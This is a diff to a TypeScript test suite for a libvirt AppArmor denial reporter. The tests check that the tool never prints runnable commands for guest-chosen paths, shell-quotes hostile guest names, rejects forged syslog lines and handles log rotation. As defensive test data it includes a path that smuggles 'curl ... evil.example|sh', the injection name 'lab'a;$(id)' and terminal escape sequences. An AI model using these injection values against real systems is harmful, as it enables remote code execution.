@@ -60,8 +60,11 @@ function json(...args: string[]): Record<string, unknown>[] {
 }
 const pick = (o: Record<string, unknown>, ...keys: string[]) => Object.fromEntries(keys.map((k) => [k, o[k]]));
 
-const NOT_ASKED_FIX = (g: string, p: string, extra = "") =>
-  `  fix: if ${g} should open it: name it in the element that uses it (e.g. a <disk> with <source file='${p}'/>)${extra}, or pre-authorise it in the domain's <metadata>: <vah:allow path="${p}" access="r"/> (docs/metadata.md), or for a running guest in seclabel/wrapper mode: virt-aa-hook grant ${g} ${p} --read-only (docs/runtime-grants.md); if it should not, nothing: the profile did its job\n`;
+/** A path no element asks for gets no ready-to-run command: the admin decides (review19 F5). */
+const GUEST_CHOOSES =
+  "; decide that yourself: a guest chooses what its QEMU tries to open, and a misconfigured or compromised one probes paths, so grant nothing you did not put there for it; if it should not, nothing: the profile did its job\n";
+const NOT_ASKED_FIX = (g: string, p: string, extra = "", access = "r") =>
+  `  fix: if ${g} should open it, an element of its XML must name it: the element that uses it (e.g. a <disk> with <source file='${p}'/>)${extra}, or a <vah:allow path="${p}" access="${access}"/> in the domain's <metadata> (docs/metadata.md)${GUEST_CHOOSES}`;
 const SHARE = " (another guest's file: both disks <shareable/> if either writes it; docs/threat-model.md)";
 
 describe("denials: real lab lines, one guest", () => {
@@ -81,8 +84,10 @@ describe("denials: real lab lines, one guest", () => {
         "  nothing in lab-a's XML asks for /etc/shadow, and the policy refuses /etc/shadow: restricted location /etc is never granted to guests\n" +
         "  fix: none: the policy gives it to no element, <metadata> entry or grant; if the guest needs it, change what the refusal names\n",
     );
-    // Negative controls: lab-b's own denials (of lab-a's disk) and virt-aa-hook's capable lines.
+    // Negative controls: lab-b's own denials (of lab-a's disk) and virt-aa-hook's capable lines;
+    // no ready-to-run grant for a path the guest chose (F5).
     expect(r.stdout).not.toContain("lab-a.qcow2");
+    expect(r.stdout).not.toContain("virt-aa-hook grant");
     expect(r.stdout).not.toContain("sys_ptrace");
   });
 
@@ -113,7 +118,7 @@ describe("denials: real lab lines, one guest", () => {
       'lab-o: DENIED open "/var/lib/libvirt/images/lab-o.qcow2" w by qemu-system-x86, 1 time, at 2026-12-05T10:15:29.732Z\n' +
         `  profile libvirt-${UUID["lab-o"]}\n` +
         `  lab-o's XML now grants "rwk" via disk sda: the denial came from an earlier profile\n` +
-        "  fix: none if it does not recur (the XML changed since, or a hotplug, media change or block job reached the profile later); if it does, `virt-aa-hook sync lab-o` (seclabel/wrapper) or restart the guest\n",
+        "  fix: none if it does not recur (the XML changed since, or a hotplug, media change or block job reached the profile later); if it does, `virt-aa-hook sync 'lab-o'` (seclabel/wrapper) or restart the guest\n",
     );
     // A block device is named by <source dev=...>.
     expect(text).toContain("(e.g. a <disk> with <source dev='/dev/loop0'/>)");
@@ -226,7 +231,8 @@ describe("denials: negative controls and hostile lines", () => {
       'lab-a: DENIED open "/tmp/\\x1b[31mevil\\x07 b\\\\x.img" r by qemu\\x1b]0;pwned, 1 time, at 2026-12-05T10:36:40.100Z\n' +
         `  profile libvirt-${UUID["lab-a"]}\n` +
         "  nothing in lab-a's XML asks for /tmp/\\x1b[31mevil\\x07 b\\\\x.img\n" +
-        "  fix: if lab-a should open it: name it in the element that uses it (e.g. a <disk> with <source file='/tmp/\\x1b[31mevil\\x07 b\\\\x.img'/>), or pre-authorise it in the domain's <metadata>: <vah:allow path=\"/tmp/\\x1b[31mevil\\x07 b\\\\x.img\" access=\"r\"/> (docs/metadata.md), or for a running guest in seclabel/wrapper mode: virt-aa-hook grant lab-a /tmp/\\x1b[31mevil\\x07 b\\\\x.img --read-only (docs/runtime-grants.md); if it should not, nothing: the profile did its job\n" +
+        "  fix: if lab-a should open it, an element of its XML must name it: the element that uses it, or a <vah:allow> in the domain's <metadata> (docs/metadata.md); no snippet printed: the path holds bytes shown escaped, which no element explains" +
+        GUEST_CHOOSES +
         'lab-a: DENIED capable capability net_admin by qemu-system-x86, 1 time, at 2026-12-05T10:36:40.500Z\n' +
         `  profile libvirt-${UUID["lab-a"]}\n` +
         "  capability net_admin is nothing an element of the XML asks for: the profile's template decides it (TEMPLATE.qemu and its abstractions)\n" +
@@ -234,7 +240,7 @@ describe("denials: negative controls and hostile lines", () => {
         'lab-a: ALLOWED open "/var/lib/libvirt/images/lab-a.qcow2" rw by qemu-system-x86, 1 time, at 2026-12-05T10:36:40.600Z\n' +
         `  profile libvirt-${UUID["lab-a"]}\n` +
         `  lab-a's XML now grants "rwk" via disk vda: the denial came from an earlier profile\n` +
-        "  fix: none if it does not recur (the XML changed since, or a hotplug, media change or block job reached the profile later); if it does, `virt-aa-hook sync lab-a` (seclabel/wrapper) or restart the guest\n",
+        "  fix: none if it does not recur (the XML changed since, or a hotplug, media change or block job reached the profile later); if it does, `virt-aa-hook sync 'lab-a'` (seclabel/wrapper) or restart the guest\n",
     );
     expect(r.stdout).not.toContain("\x1b");
     expect(r.stdout).not.toContain("\x07");
@@ -371,5 +377,147 @@ describe("denials --follow", () => {
       ["lab-a", "/etc/shadow", 2],
       ["lab-a", "/var/lib/libvirt/images/lab-b.qcow2", 1],
     ]);
+  });
+});
+
+/** A kernel AppArmor line of lab-a's profile, as dmesg shows it. */
+function labA(serial: number, name: string, mask: string, op = "open"): string {
+  return `[  950.000001] audit: type=1400 audit(1796467001.${String(serial % 1000).padStart(3, "0")}:${serial}): apparmor="DENIED" operation="${op}" profile="libvirt-${UUID["lab-a"]}" name="${name}" pid=516 comm="qemu-system-x86" requested_mask="${mask}" denied_mask="${mask}" fsuid=64055 ouid=64055`;
+}
+/** The path of review19 F3: a guest's QEMU only has to try to create it. */
+const HOSTILE = "/var/lib/libvirt/images/x;curl${IFS}-s${IFS}evil.example|sh;#";
+const NO_COMMAND =
+  "no command printed: the path holds characters a shell or AppArmor would interpret, or bytes shown escaped; a QEMU that asks for such a path is not doing what an XML element explains";
+
+describe("denials: printed commands and snippets from guest-chosen paths and names (review19 F3, F5)", () => {
+  it("the hostile path a guest tried to create: no command, the XML snippet with why", () => {
+    define("lab-a", "lab-b");
+    kernLog([labA(600, HOSTILE, "c", "mknod")]);
+    const r = run("lab-a");
+    expect(r.stderr).toBe("");
+    expect(r.stdout).toBe(
+      `lab-a: DENIED mknod "${HOSTILE}" w by qemu-system-x86, 1 time, at 2026-12-05T10:36:41.600Z\n` +
+        `  profile libvirt-${UUID["lab-a"]}\n` +
+        `  nothing in lab-a's XML asks for ${HOSTILE}\n` +
+        `  fix: if lab-a should open it, an element of its XML must name it: the element that uses it (e.g. a <disk> with <source file='${HOSTILE}'/>), or a <vah:allow path="${HOSTILE}" access="rw"/> in the domain's <metadata> (docs/metadata.md) (the path holds characters a shell or AppArmor would interpret: a QEMU that asks for such a path is not doing what an element explains)` +
+        GUEST_CHOOSES,
+    );
+    expect(r.stdout).not.toContain("virt-aa-hook");
+  });
+
+  it("a path with XML's special characters is XML-escaped in the snippets", () => {
+    define("lab-a", "lab-b");
+    kernLog([labA(601, "/var/lib/libvirt/images/a&b'<c>\".img".replace('"', ""), "r")]);
+    const [f] = json("lab-a");
+    expect(f!.fix).toBe(
+      "if lab-a should open it, an element of its XML must name it: the element that uses it (e.g. a <disk> with <source file='/var/lib/libvirt/images/a&amp;b&apos;&lt;c&gt;.img'/>), or a <vah:allow path=\"/var/lib/libvirt/images/a&amp;b&apos;&lt;c&gt;.img\" access=\"r\"/> in the domain's <metadata> (docs/metadata.md) (the path holds characters a shell or AppArmor would interpret: a QEMU that asks for such a path is not doing what an element explains)" +
+        GUEST_CHOOSES.slice(0, -1),
+    );
+  });
+
+  it("a guest named lab'a;$(id) with read-only disks: every command's name and path single-quoted; none for the hostile path", () => {
+    const name = "lab'a;$(id)";
+    const quoted = "'lab'\\''a;$(id)'";
+    const disks = ["/var/lib/libvirt/images/data.img", HOSTILE]
+      .map((p, i) => `<disk type='file' device='disk'><source file='${p}'/><target dev='vd${"cd"[i]}' bus='virtio'/><readonly/></disk>\n    `)
+      .join("");
+    put(
+      "/etc/libvirt/qemu/lab-a.xml",
+      fs.readFileSync(path.join(FIX, "domains", "lab-a.xml"), "utf8").replace("<name>lab-a</name>", `<name>${name}</name>`).replace("<disk type='file' device='disk'>", `${disks}<disk type='file' device='disk'>`),
+    );
+    kernLog([labA(602, "/var/lib/libvirt/images/data.img", "w"), labA(603, HOSTILE, "w"), fixture("synthetic.dmesg.txt")[5]!]);
+    const fixes = json().map((f) => [f.class, f.fix]);
+    expect(fixes).toEqual([
+      ["granted-now", `none if it does not recur (the XML changed since, or a hotplug, media change or block job reached the profile later); if it does, \`virt-aa-hook sync ${quoted}\` (seclabel/wrapper) or restart the guest`],
+      ["partial", `if ${name} should write it, remove <readonly/> from that <disk>; for a running guest in seclabel/wrapper mode: \`virt-aa-hook grant ${quoted} '/var/lib/libvirt/images/data.img'\` (docs/runtime-grants.md)`],
+      ["partial", `if ${name} should write it, remove <readonly/> from that <disk>; for a running guest in seclabel/wrapper mode: virt-aa-hook grant (${NO_COMMAND}) (docs/runtime-grants.md)`],
+    ]);
+    // The quoted commands are what a shell hands to virt-aa-hook: each argument one word, as printed.
+    const printed = fixes.map(([, fix]) => /`(virt-aa-hook [^`]*)`/.exec(fix as string)?.[1]).filter((c): c is string => c !== undefined);
+    const argv = printed.map((c) => spawnSync("/bin/sh", ["-c", `printf '%s\\n' ${c.slice("virt-aa-hook ".length)}`], { encoding: "utf8" }).stdout);
+    expect(argv).toEqual([`sync\n${name}\n`, `grant\n${name}\n/var/lib/libvirt/images/data.img\n`]);
+  });
+});
+
+describe("denials: kern.log and syslog lines count only as the kernel's (review19 F4)", () => {
+  const planted = `audit: type=1400 audit(1796467001.100:601): apparmor="DENIED" operation="open" profile="libvirt-${UUID["lab-a"]}" name="/home/alice/planted.img" pid=516 comm="qemu-system-x86" requested_mask="rw" denied_mask="rw" fsuid=64055 ouid=0`;
+
+  it("a logger line of a local user is no denial; the kernel's line, in every syslog format, is", () => {
+    define("lab-a", "lab-b");
+    const forged = [
+      `Dec  5 10:31:00 lab alice: ${planted}`,
+      `Dec  5 10:31:00 lab alice[812]: ${planted}`,
+      `2026-12-05T10:31:00.000000+00:00 lab alice: ${planted}`,
+      // The kernel's tag, but not the kernel's audit format.
+      `Dec  5 10:31:00 lab kernel: note ${planted}`,
+      `Dec  5 10:31:00 lab kernel: audit: type=1400 audit(1796467001.100:601): x apparmor="DENIED" operation="open" profile="libvirt-${UUID["lab-a"]}" name="/home/alice/planted.img" requested_mask="rw"`,
+    ];
+    put("/var/log/kern.log", forged.map((l) => `${l}\n`).join(""));
+    expect(run("lab-a").stdout).toBe("no AppArmor denials for lab-a in /var/log/kern.log\n");
+    // Positive controls: the same line with the kernel's tag, in the three formats rsyslog writes.
+    for (const prefix of ["Dec  5 10:31:00 lab kernel: [  950.1] ", "2026-12-05T10:31:00.000000+00:00 lab kernel: ", "<4>1 2026-12-05T10:31:00.000000+00:00 lab kernel - - - "]) {
+      put("/var/log/kern.log", `${forged.join("\n")}\n${prefix}${planted}\n`);
+      expect(json("lab-a").map((f) => [f.path, f.requested])).toEqual([["/home/alice/planted.img", "rw"]]);
+    }
+    put("/var/log/syslog", `Dec  5 10:31:00 lab alice: ${planted}\n`);
+    fs.rmSync(path.join(root, "var/log/kern.log"));
+    expect(run("lab-a").stdout).toBe("no AppArmor denials for lab-a in /var/log/syslog\n");
+  });
+
+  it("audit.log (auditd's own) is read as it is", () => {
+    define("lab-a", "lab-b");
+    auditLog([planted]);
+    expect(json("lab-a").map((f) => f.path)).toEqual(["/home/alice/planted.img"]);
+  });
+});
+
+describe("denials: bounded memory (review19 F9)", () => {
+  it(`a guest probing ${1000 + 75} distinct paths: 1000 groups shown, the rest counted; a 2 MiB line is skipped`, () => {
+    define("lab-a", "lab-b");
+    const lines = [...Array.from({ length: 20_000 }, (_, i) => labA(i, "/var/lib/libvirt/images/same.img", "r"))];
+    for (let i = 0; i < 1075; i++) lines.push(labA(100_000 + i, `/var/lib/libvirt/images/probe-${i}.img`, "r"));
+    put("/var/log/kern.log", [...lines.slice(0, 10), `Dec  5 10:30:00 lab kernel: ${"A".repeat(2 * 1024 * 1024)}`, ...lines.slice(10)].map((l) => (l.startsWith("Dec") ? l : `Dec  5 10:30:00 lab kernel: ${l}`)).join("\n") + "\n");
+    const r = run("--json", "lab-a");
+    expect(r.code).toBe(0);
+    const found = r.stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(found).toHaveLength(1000);
+    expect(found[0]).toMatchObject({ path: "/var/lib/libvirt/images/same.img", count: 20_000 });
+    expect(found.at(-1)).toMatchObject({ path: "/var/lib/libvirt/images/probe-998.img", count: 1 });
+    expect(r.stderr).toBe(
+      `virt-aa-hook: warning: lab-a: 76 more denials not shown: more than 1000 distinct denials of profile libvirt-${UUID["lab-a"]} (a guest chooses the paths its QEMU tries: one that probes makes a denial per path); narrow with --since\n`,
+    );
+  });
+});
+
+describe("denials --follow across log rotation (review19 F10)", () => {
+  it("rename + new file: the old file's tail, then the new file from its start; copytruncate: read again, each event once", async () => {
+    define("lab-a", "lab-b");
+    const log = path.join(root, "var/log/kern.log");
+    kernLog([labA(700, "/srv/before.img", "r")]);
+    const proc = spawn(process.execPath, [BUNDLE, "denials", "--root", root, "--follow", "--json", "lab-a"], { stdio: ["ignore", "pipe", "pipe"] });
+    let out = "";
+    let err = "";
+    proc.stdout.on("data", (d: Buffer) => (out += d.toString()));
+    proc.stderr.on("data", (d: Buffer) => (err += d.toString()));
+    const paths = () => out.split("\n").filter(Boolean).map((l) => (JSON.parse(l) as Record<string, unknown>).path);
+    const until = async (ok: () => boolean) => {
+      for (let i = 0; i < 100 && !ok(); i++) await new Promise((r) => setTimeout(r, 100));
+    };
+    await until(() => paths().length >= 1);
+    const k = (l: string) => `Dec  5 10:31:00 lab kernel: ${l}\n`;
+    // logrotate: rename; the logger writes on to the old file until it reopens; then a new file.
+    fs.renameSync(log, `${log}.1`);
+    fs.appendFileSync(`${log}.1`, k(labA(701, "/srv/old-tail.img", "r")));
+    fs.writeFileSync(log, k(labA(702, "/srv/new-first.img", "r")));
+    await until(() => paths().length >= 3);
+    expect(paths()).toEqual(["/srv/before.img", "/srv/old-tail.img", "/srv/new-first.img"]);
+    // copytruncate: the same file emptied and written again, longer than before, within one poll.
+    fs.writeFileSync(log, k(labA(702, "/srv/new-first.img", "r")) + k(labA(703, "/srv/after-truncate-with-a-longer-name.img", "r")) + k(labA(704, "/srv/x.img", "r")));
+    await until(() => paths().length >= 5);
+    proc.kill("SIGTERM");
+    const code = await new Promise<number | null>((resolve) => proc.on("close", (c) => resolve(c)));
+    expect(err).toBe("");
+    expect(code).toBe(0);
+    expect(paths()).toEqual(["/srv/before.img", "/srv/old-tail.img", "/srv/new-first.img", "/srv/after-truncate-with-a-longer-name.img", "/srv/x.img"]);
   });
 });
